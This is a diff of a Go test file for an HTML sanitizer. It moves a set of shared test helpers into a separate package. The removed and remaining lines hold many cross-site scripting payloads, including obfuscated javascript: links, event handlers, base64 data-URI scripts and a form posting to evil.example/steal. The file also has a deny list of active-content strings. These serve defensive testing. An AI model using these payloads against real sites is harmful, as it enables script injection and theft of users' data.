@@ -1,4 +1,4 @@
-package render
+package ingest
 
 import (
 	"net/url"
@@ -6,68 +6,13 @@ import (
 	"testing"
 
 	"github.com/PuerkitoBio/goquery"
+
+	"feeddigest/internal/htmltest"
 )
 
-// hostile packs the usual attacks between two benign sentences.
-const hostile = `<p>Before the storm.</p>
-<script>alert(1)</script>
-<img src="x" onerror="alert(2)">
-<body onload="alert(3)">
-<p onclick="alert(4)">Click text</p>
-<a href="javascript:alert(5)">js link</a>
-<a href="JaVaScRiPt:alert(6)">mixed case</a>
-<a href="jav&#x61;script:alert(7)">entity link</a>
-<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(8)">decimal entities</a>
-<a href="java&#x09;script:alert(9)">tab</a>
-<a href=" javascript:alert(10)">leading space</a>
-<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">data link</a>
-<a href="vbscript:msgbox(12)">vb</a>
-<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTMpPg==">
-<iframe src="https://evil.example/"></iframe>
-<iframe srcdoc="<script>alert(14)</script>"></iframe>
-<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(15)">Go</button></form>
-<svg onload="alert(16)"><circle r="1"/></svg>
-<math><mtext><script>alert(17)</script></mtext></math>
-<style>body{background:url(javascript:alert(18))}</style>
-<object data="https://evil.example/x.swf"></object>
-<embed src="https://evil.example/x.swf">
-<meta http-equiv="refresh" content="0;url=javascript:alert(19)">
-<link rel="stylesheet" href="https://evil.example/x.css">
-<base href="https://evil.example/">
-<div style="background:url(javascript:alert(20))">styled</div>
-<noscript><p title="</noscript><img src=x onerror=alert(21)>"></noscript>
-<p>After the storm.</p>`
-
-// checkSafe fails the test when html carries anything active, and returns
-// the parsed document for further checks.
-func checkSafe(t *testing.T, out string) *goquery.Document {
-	t.Helper()
-	doc, err := goquery.NewDocumentFromReader(strings.NewReader(out))
-	if err != nil {
-		t.Fatal(err)
-	}
-	lower := strings.ToLower(out)
-	for _, bad := range []string{"<script", "javascript:", "vbscript:", "data:", "alert(", "<iframe", "<form", "<svg", "<object", "<embed", "<math", "<base", "http-equiv"} {
-		if strings.Contains(lower, bad) {
-			t.Errorf("output contains %q", bad)
-		}
-	}
-	doc.Find("*").Each(func(_ int, s *goquery.Selection) {
-		for _, a := range s.Nodes[0].Attr {
-			if strings.HasPrefix(strings.ToLower(a.Key), "on") {
-				t.Errorf("<%s> keeps event handler %s=%q", s.Nodes[0].Data, a.Key, a.Val)
-			}
-		}
-	})
-	if n := doc.Find("style").Length(); n > 1 {
-		t.Errorf("%d <style> elements, want at most our own", n)
-	}
-	return doc
-}
-
 func TestSanitizeHostile(t *testing.T) {
-	out := SanitizeHTML(hostile, "https://blog.example.org/post")
-	doc := checkSafe(t, out)
+	out := SanitizeHTML(htmltest.Hostile, "https://blog.example.org/post")
+	doc := htmltest.CheckSafe(t, out)
 	text := doc.Text()
 	for _, want := range []string{"Before the storm.", "After the storm.", "Click text", "js link", "entity link", "styled"} {
 		if !strings.Contains(text, want) {
@@ -91,36 +36,9 @@ func TestSanitizeHostile(t *testing.T) {
 	}
 }
 
-func TestHostileEntryInPageAndEmail(t *testing.T) {
-	d := sampleDigest(t)
-	d.Groups[0].Entries[0].Content = hostile
-	d.Groups[0].Entries[0].Title = `<script>alert(0)</script>Storm <img src=x onerror=alert(0)>report`
-	d.Groups[0].Entries[0].Author = `<b onmouseover="alert(0)">Mallory</b>`
-	d.Groups[0].SiteURL = "javascript:alert(0)"
-	d.Groups[0].Entries[1].Link = "javascript:alert(0)"
-	page, err := DigestPage(d)
-	if err != nil {
-		t.Fatal(err)
-	}
-	doc := checkSafe(t, string(page))
-	if got := doc.Find("h3").First().Text(); got != "Storm report" {
-		t.Errorf("display title = %q, want %q", got, "Storm report")
-	}
-	for _, want := range []string{"Before the storm.", "After the storm.", "Mallory"} {
-		if !strings.Contains(doc.Text(), want) {
-			t.Errorf("page lost benign text %q", want)
-		}
-	}
-	html := emailHTML(t, d)
-	checkSafe(t, html)
-	if !strings.Contains(html, "Before the storm.") {
-		t.Error("email lost the benign excerpt")
-	}
-}
-
 func TestSanitizeLinksGetRel(t *testing.T) {
 	in := `<a href="https://a.example/" rel="nofollow">a</a><a href="mailto:x@example.org" rel="opener">m</a><a name="n">no href</a><a href="/rel">r</a>`
-	doc := parseHTML(t, SanitizeHTML(in, "https://blog.example.org/x"))
+	doc := htmltest.Parse(t, SanitizeHTML(in, "https://blog.example.org/x"))
 	links := doc.Find("a[href]")
 	if links.Length() != 3 {
 		t.Fatalf("%d links, want 3", links.Length())
@@ -135,7 +53,7 @@ func TestSanitizeLinksGetRel(t *testing.T) {
 func TestSanitizeResolvesRelativeURLs(t *testing.T) {
 	in := `<a href="/about">a</a><a href="../up">b</a><a href="#top">c</a><a href="//cdn.example/x">d</a>` +
 		`<img src="img/cat.png" alt="cat"><blockquote cite="/source">q</blockquote>`
-	doc := parseHTML(t, SanitizeHTML(in, "https://blog.example.org/posts/hello"))
+	doc := htmltest.Parse(t, SanitizeHTML(in, "https://blog.example.org/posts/hello"))
 	var hrefs []string
 	doc.Find("a").Each(func(_ int, a *goquery.Selection) { hrefs = append(hrefs, a.AttrOr("href", "")) })
 	want := []string{
@@ -156,7 +74,7 @@ func TestSanitizeResolvesRelativeURLs(t *testing.T) {
 }
 
 func TestSanitizeWithoutBaseDropsRelativeURLs(t *testing.T) {
-	doc := parseHTML(t, SanitizeHTML(`<a href="/about">about</a><img src="cat.png"><a href="https://ok.example/">ok</a>`, ""))
+	doc := htmltest.Parse(t, SanitizeHTML(`<a href="/about">about</a><img src="cat.png"><a href="https://ok.example/">ok</a>`, ""))
 	if n := doc.Find("a[href]").Length(); n != 1 {
 		t.Errorf("%d links with href, want only the absolute one", n)
 	}
@@ -209,7 +127,7 @@ func TestSanitizeDropsTrackingPixels(t *testing.T) {
 
 func TestSanitizeKeepsOrdinaryMarkup(t *testing.T) {
 	in := `<h2 id="archive">Title</h2><p><em>e</em> <strong>s</strong> <code>c</code></p><ul><li>one</li></ul><pre>x := 1</pre><blockquote>q</blockquote><table><tr><td>cell</td></tr></table>`
-	doc := parseHTML(t, SanitizeHTML(in, ""))
+	doc := htmltest.Parse(t, SanitizeHTML(in, ""))
 	if doc.Find("[id]").Length() != 0 {
 		t.Error("content ids kept; they could clash with the page's anchors")
 	}
@@ -228,7 +146,7 @@ func TestSanitizeDemotesHeadings(t *testing.T) {
 	if out := SanitizeHTML(in, ""); out != in {
 		t.Errorf("SanitizeHTML changed the headings: %s", out)
 	}
-	doc := parseHTML(t, sanitize(in, "", 4))
+	doc := htmltest.Parse(t, sanitize(in, "", 4))
 	var got []string
 	doc.Find("h1, h2, h3, h4, h5, h6").Each(func(_ int, h *goquery.Selection) {
 		got = append(got, h.Nodes[0].Data+":"+h.Text())
@@ -238,21 +156,12 @@ func TestSanitizeDemotesHeadings(t *testing.T) {
 	}
 }
 
-func parseHTML(t testing.TB, s string) *goquery.Document {
-	t.Helper()
-	doc, err := goquery.NewDocumentFromReader(strings.NewReader(s))
-	if err != nil {
-		t.Fatal(err)
-	}
-	return doc
-}
-
 // FuzzSanitize checks the promises of SanitizeHTML on any input: nothing
 // that runs, only http(s)/mailto URLs without user information, rel on
 // every link, no image map, no control or noncharacter.
 func FuzzSanitize(f *testing.F) {
 	for _, seed := range []string{
-		hostile,
+		htmltest.Hostile,
 		`<a href="/x">x</a>`,
 		`<img src=x onerror=alert(1)>`,
 		`<a href="jav&#x61;script:alert(1)">x</a>`,
@@ -273,7 +182,7 @@ func FuzzSanitize(f *testing.F) {
 		if strings.Contains(strings.ToLower(out), "<script") {
 			t.Fatalf("<script in output: %q", out)
 		}
-		checkNoDirt(t, "SanitizeHTML", []byte(out))
+		htmltest.CheckNoDirt(t, "SanitizeHTML", []byte(out))
 		doc, err := goquery.NewDocumentFromReader(strings.NewReader(out))
 		if err != nil {
 			t.Fatal(err)
@@ -317,5 +226,29 @@ func checkURL(t *testing.T, el, v string) {
 	case "http", "https", "mailto":
 	default:
 		t.Fatalf("<%s> URL %q has scheme %q", el, v, u.Scheme)
+	}
+}
+
+// hrefs lists the link targets of sanitised HTML.
+func hrefs(clean string) []string {
+	if !strings.Contains(clean, "href") {
+		return nil
+	}
+	doc, err := goquery.NewDocumentFromReader(strings.NewReader(clean))
+	if err != nil {
+		return nil
+	}
+	var out []string
+	doc.Find("a[href]").Each(func(_ int, a *goquery.Selection) {
+		out = append(out, a.AttrOr("href", ""))
+	})
+	return out
+}
+
+// checkNoUserinfo fails a fuzz run whose output links carry user
+// information.
+func checkNoUserinfo(t *testing.T, el, v string) {
+	if u, err := url.Parse(v); err == nil && u.User != nil {
+		t.Fatalf("<%s> URL %q keeps user information", el, v)
 	}
 }
